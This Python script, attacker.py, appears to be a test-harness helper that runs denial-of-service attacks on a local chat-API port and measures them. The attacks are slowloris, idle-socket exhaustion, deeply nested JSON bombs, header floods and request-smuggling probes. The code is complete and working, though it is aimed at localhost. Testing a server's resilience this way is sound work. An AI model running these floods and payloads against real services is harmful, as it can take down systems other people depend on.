"""attacker.py — one kind of attack on a port until stdin ends: `attacker.py KIND PORT`.

Prints "attacking" when it has begun, and in the end how many a second it has thrown that were answered
or closed, or how many connections it has opened.
"""

import asyncio
import os
import resource
import sys
import time

HOST, FROM = "127.0.0.1", "127.0.0.2"
CHAT = "/v1/chat/completions"
SLOW_SOCKETS, IDLE_SOCKETS = 2000, 10_000
SLOW_SECONDS = 1.0           # between two bytes of a slow head
BOMBS_A_SECOND, FLOODS_A_SECOND, PROBES_A_SECOND = 10, 50, 50
AT_ONCE = 64                 # connections that are being opened


def chat_head(*lines):
    head = [f"POST {CHAT} HTTP/1.1", "Host: t", "Content-Type: application/json",
            f"Authorization: Bearer {os.environ['ATTACKER_KEY']}", *lines]
    return ("\r\n".join(head) + "\r\n\r\n").encode()


def bomb():
    body = b'{"model":"m","messages":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    return chat_head("Connection: close", f"Content-Length: {len(body)}") + body


FLOOD = b"GET /v1/models HTTP/1.1\r\n" + b"".join(b"X-%d: %s\r\n" % (i, b"a" * 600)
                                                  for i in range(100))
PROBE = chat_head("Transfer-Encoding: gzip", "Content-Length: 5") + b"GET /"


async def connect(port):
    return await asyncio.open_connection(HOST, port, local_addr=(FROM, 0))


async def hold(port, count, ended, say=None):
    """`count` connections, opened again when they are closed, that say a byte now and then. `ended`
    is told of each that was opened."""
    gate = asyncio.Semaphore(AT_ONCE)

    async def one():
        while True:
            try:
                async with gate:
                    reader, writer = await connect(port)
                ended.append(time.monotonic())
                if say is None:
                    await reader.read()
                else:
                    writer.write(b"GET /v1/models HTTP/1.1\r\nX-Slow: ")
                    while not reader.at_eof():
                        writer.write(b"a")
                        await asyncio.wait_for(reader.read(1024), say)
                writer.close()
            except asyncio.TimeoutError:
                writer.write(b"a")
            except OSError:
                pass
            await asyncio.sleep(1)

    return [asyncio.create_task(one()) for _ in range(count)]


async def throw(port, message, a_second, ended):
    """`ended` is told of each that had its answer, or its end."""
    async def one():
        try:
            reader, writer = await connect(port)
            writer.write(message)
            await asyncio.wait_for(reader.read(65536), 10)
            ended.append(time.monotonic())
            writer.close()
        except (OSError, asyncio.TimeoutError):
            pass

    async def for_ever():
        thrown = set()
        while True:
            task = asyncio.create_task(one())
            thrown.add(task)
            task.add_done_callback(thrown.discard)
            await asyncio.sleep(1 / a_second)

    return [asyncio.create_task(for_ever())]


async def main(kind, port):
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    ended = []
    if kind == "slowloris":
        tasks = await hold(port, SLOW_SOCKETS, ended, SLOW_SECONDS)
    elif kind == "sockets":
        tasks = await hold(port, IDLE_SOCKETS, ended)
        await asyncio.sleep(5)
    else:
        message, rate = {"json-bombs": (bomb(), BOMBS_A_SECOND),
                         "header-floods": (FLOOD, FLOODS_A_SECOND),
                         "smuggling": (PROBE, PROBES_A_SECOND)}[kind]
        tasks = await throw(port, message, rate, ended)
    print("attacking", flush=True)
    began = time.monotonic()
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    if kind in ("slowloris", "sockets"):
        print(len(ended), flush=True)
    else:
        print(sum(at > began for at in ended) / (time.monotonic() - began), flush=True)
    for task in tasks:
        task.cancel()


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
